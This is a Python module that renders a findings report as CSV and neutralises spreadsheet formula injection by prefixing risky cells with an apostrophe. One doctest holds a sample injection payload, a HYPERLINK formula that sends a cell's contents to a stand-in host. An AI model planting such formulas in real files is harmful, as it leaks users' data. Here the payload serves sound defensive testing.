"""The CSV report: one row per finding, every text cell safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula (`=HYPERLINK(...)`, `@SUM(...)`, `-2+3`); record text comes from registrants,
so such a cell gets a leading apostrophe, which spreadsheets show as text and never run (OWASP's advice).
"""
from __future__ import annotations

import csv
import io

from ...model import Finding, Record
from .table import COLUMNS, row

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """A spreadsheet-safe cell: text that a spreadsheet would run as a formula is neutralised.

    >>> safe_cell('=HYPERLINK("http://x.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://x.example/?"&A1,"click")'
    >>> safe_cell("+86 510 82700775"), safe_cell("@SUM(A1:A9)"), safe_cell("\\t=1+1")
    ("'+86 510 82700775", "'@SUM(A1:A9)", "'\\t=1+1")

    What must be left alone: ordinary text, text with `=` inside, numbers.

    >>> safe_cell("年龄≥18岁"), safe_cell("a = b"), safe_cell(3)
    ('年龄≥18岁', 'a = b', 3)
    """
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def render(findings: list[Finding], records: list[Record]) -> bytes:
    """UTF-8 with a byte-order mark (so Excel reads the Chinese), a header row of COLUMNS, one row per finding."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for f in findings:
        writer.writerow([safe_cell(cell) for cell in row(f)])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")
